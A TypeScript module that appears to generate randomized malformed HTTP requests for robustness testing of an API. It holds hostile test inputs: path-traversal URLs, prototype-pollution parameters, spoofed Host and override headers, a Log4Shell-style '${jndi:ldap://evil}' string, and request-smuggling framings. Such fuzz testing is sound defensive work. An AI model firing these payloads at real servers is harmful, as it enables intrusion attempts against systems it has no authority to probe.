import { type Body, hostileBody } from './bodies.ts';
import { hostileForm } from './forms.ts';
import type { Operation } from './operations.ts';
import type { SeededRandom } from '@groundwork/test-data/cases';
import { hostileSegment } from './values.ts';

export interface HostileRequest {
  defect: string;
  method: string;
  target: string;
  headers: [string, string][];
  content: Buffer;
  /** Replaces Content-Length. */
  framing?: [string, string][];
}

const fillPath = ({ path }: Operation, segment: string) => path.replace(/\{\w+\}/g, () => segment);
const unknownId = '00000000-0000-4000-8000-000000000000';

function createRequest(operation: Operation, defect: string): HostileRequest {
  return {
    defect,
    method: operation.method,
    target: fillPath(operation, unknownId),
    headers: [],
    content: Buffer.alloc(0),
  };
}

function withBody(request: HostileRequest, { type, content }: Body): HostileRequest {
  const typed: [string, string][] = type === undefined ? [] : [['Content-Type', type]];
  return { ...request, headers: [...request.headers, ...typed], content };
}

const validRequest = (operation: Operation, defect: string): HostileRequest =>
  operation.method === 'GET'
    ? createRequest(operation, defect)
    : withBody(createRequest(operation, defect), { type: 'application/json', content: Buffer.from('{}') });

function badBody(operation: Operation, random: SeededRandom): HostileRequest {
  const body = operation.isForm && random.chance(0.8) ? hostileForm(random) : hostileBody(operation, random);
  return withBody(createRequest(operation, 'a bad body'), body);
}

function badQuery(operation: Operation, random: SeededRandom): HostileRequest {
  const name = random.one([
    ...operation.query,
    'limit',
    'cursor',
    'include',
    '__proto__',
    'a[b][c]',
    'a[]',
    '%00',
    '',
  ]);
  const values = Array.from({ length: random.one([1, 2, 2, 30, 1000]) }, () => hostileSegment(random));
  const query = values
    .map((value) => `${name}=${value}`)
    .join('&')
    .slice(0, 12_000);
  const request = validRequest(operation, 'a bad query');
  return { ...request, target: `${request.target}?${query}` };
}

const tricks: readonly ((path: string, random: SeededRandom) => string)[] = [
  (path, random) => `${path}/${hostileSegment(random)}`,
  (path, random) => path.replace('/api/', `/api/${hostileSegment(random)}/`),
  (path) => path.replace('/api/', '//api//'),
  (path) => path.replace('/api/', '/api/./'),
  (path) => path.replace('/api/', '/api/..%2fapi/'),
  (path) => path.replace('/api/', '/api%2f'),
  (path) => path.replace('/api/', '/%61pi/'),
  (path) => path.toUpperCase(),
  (path) => `${path}%00`,
  (path) => `${path};a=b`,
  (path) => `${path}.json`,
  (path) => `${path}#fragment`,
  (path) => `http://evil.example${path}`,
  (path) => path.replaceAll('/', '\\'),
  (path) => path.slice(1),
  () => '*',
  (_, random) => `/${hostileSegment(random)}/${hostileSegment(random)}`,
  (_, random) => `/assets/${hostileSegment(random)}`,
  (_, random) => `/api/docs/assets/${hostileSegment(random)}`,
];

function badAddress(operation: Operation, random: SeededRandom): HostileRequest {
  const target = operation.path.includes('{')
    ? fillPath(operation, hostileSegment(random))
    : random.one(tricks)(operation.path, random);
  return { ...validRequest(operation, 'a bad address'), target };
}

const methods = [
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'get',
  'BREW',
  '',
];

const badMethod = (operation: Operation, random: SeededRandom): HostileRequest => ({
  ...validRequest(operation, 'a bad method'),
  method: random.one(methods),
});

const headerSets: readonly [string, string][][] = [
  [
    ['Authorization', 'Bearer a'],
    ['Authorization', 'Bearer b'],
  ],
  [['Authorization', `Bearer ${'x'.repeat(5000)}`]],
  [['Authorization', 'Basic YTpi']],
  [['Authorization', 'Bearer \u00ff\u00fe']],
  [['Cookie', 'groundwork_session=%00%ff; groundwork_session=a; __proto__=b']],
  [
    ['Cookie', `groundwork_session=${'x'.repeat(7000)}`],
    ['Origin', 'https://evil.example'],
  ],
  [
    ['Cookie', 'groundwork_session=aaaa'],
    ['Origin', 'null'],
  ],
  [
    ['Host', 'evil.example'],
    ['Host', 'other.example'],
  ],
  [
    ['X-Forwarded-For', "127.0.0.1, ::1, '; drop"],
    ['X-Forwarded-Proto', 'javascript'],
    ['X-Forwarded-Host', 'evil'],
  ],
  [
    ['X-HTTP-Method-Override', 'DELETE'],
    ['X-Original-URL', '/api/user'],
  ],
  [
    ['traceparent', '00-zz-00-01'],
    ['tracestate', 'x'.repeat(2000)],
  ],
  [['X-Request-Id', '${jndi:ldap://evil}']],
  [['Range', 'bytes=0-0,-1,99999999999-']],
  [
    ['If-None-Match', '*'],
    ['If-Modified-Since', 'yesterday'],
  ],
  [
    ['Accept', 'application/xml;q=NaN'],
    ['Accept-Encoding', 'gzip;q=9, *'],
    ['Accept-Version', '999'],
  ],
  [['Accept-Language', 'a-'.repeat(3000)]],
  [['Expect', '200-maybe']],
  [['Expect', '100-continue']],
  [
    ['Upgrade', 'websocket'],
    ['Sec-WebSocket-Key', 'x'],
    ['Connection', 'Upgrade'],
  ],
  [
    ['Upgrade', 'h2c'],
    ['HTTP2-Settings', 'AAAA'],
    ['Connection', 'Upgrade, HTTP2-Settings'],
  ],
  [['Content-Encoding', 'gzip']],
  [
    ['Last-Event-ID', '\u00ff'],
    ['Accept', 'text/event-stream'],
  ],
  [['X-Long', 'x'.repeat(30_000)]],
  Array.from({ length: 1500 }, (_, n): [string, string] => [`X-${n}`, '1']),
  [['Bad Name', '1']],
  [['X-Folded', 'a\r\n b']],
  [['X-Bell', 'a\u0007b']],
];

function badHeaders(operation: Operation, random: SeededRandom): HostileRequest {
  const request = validRequest(operation, 'bad headers');
  return { ...request, headers: [...request.headers, ...random.one(headerSets)] };
}

const framings: readonly { framing: [string, string][]; content: string }[] = [
  {
    framing: [
      ['Content-Length', '4'],
      ['Transfer-Encoding', 'chunked'],
    ],
    content: '0\r\n\r\n',
  },
  {
    framing: [
      ['Transfer-Encoding', 'chunked'],
      ['Content-Length', '5'],
    ],
    content: '5\r\nhello\r\n0\r\n\r\n',
  },
  {
    framing: [
      ['Content-Length', '2'],
      ['Content-Length', '9'],
    ],
    content: '{}',
  },
  { framing: [['Content-Length', '-1']], content: '{}' },
  { framing: [['Content-Length', '2, 2']], content: '{}' },
  { framing: [['Content-Length', '0x2']], content: '{}' },
  { framing: [['Content-Length', '9'.repeat(30)]], content: '{}' },
  { framing: [['Transfer-Encoding', 'chunked, identity']], content: '0\r\n\r\n' },
  { framing: [['Transfer-Encoding', 'gzip']], content: '{}' },
  { framing: [['Transfer-Encoding', 'xchunked']], content: '{}' },
  { framing: [['Transfer-Encoding', 'chunked']], content: 'zz\r\n{}\r\n0\r\n\r\n' },
  { framing: [['Transfer-Encoding', 'chunked']], content: '-2\r\n{}\r\n0\r\n\r\n' },
  { framing: [['Transfer-Encoding', 'chunked']], content: `${'f'.repeat(30)}\r\n{}\r\n0\r\n\r\n` },
  { framing: [['Transfer-Encoding', 'chunked']], content: '2;x="y\r\n{}\r\n0\r\nX-Trailer: 1\r\n\r\n' },
  { framing: [['Transfer-Encoding', 'chunked']], content: '1\r\n{}\r\n0\r\n\r\n' },
  { framing: [['Transfer-Encoding', 'chunked']], content: `2;${'x'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n` },
];

function badFraming(operation: Operation, random: SeededRandom): HostileRequest {
  const { framing, content } = random.one(framings);
  const request = withBody(createRequest(operation, 'bad framing'), {
    type: 'application/json',
    content: Buffer.from(content, 'latin1'),
  });
  return { ...request, framing };
}

const kinds = [
  badBody,
  badBody,
  badBody,
  badQuery,
  badAddress,
  badAddress,
  badMethod,
  badHeaders,
  badFraming,
];

export const hostileRequest = (operation: Operation, random: SeededRandom): HostileRequest =>
  random.one(kinds)(operation, random);
